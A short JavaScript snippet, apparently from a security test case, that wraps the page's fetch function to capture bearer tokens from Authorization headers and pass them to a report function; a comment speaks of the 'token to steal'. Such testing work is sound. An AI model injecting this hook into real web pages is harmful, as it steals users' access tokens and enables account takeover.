const fetchBefore = window.fetch;
window.fetch = async (address, options = {}) => {
  const answer = await fetchBefore(address, options);
  const header = new Headers(options.headers).get("Authorization");
  const found = header ? [{ where: "the call of the page", name: "Authorization", value: header.replace("Bearer ", "") }] : [];
  // With a cookie, the page's call has no token to steal. This is reported too, so that the case does not wait in vain.
  if (header || (answer.ok && String(address).includes("whoami"))) report("called", found);
  return answer;
};
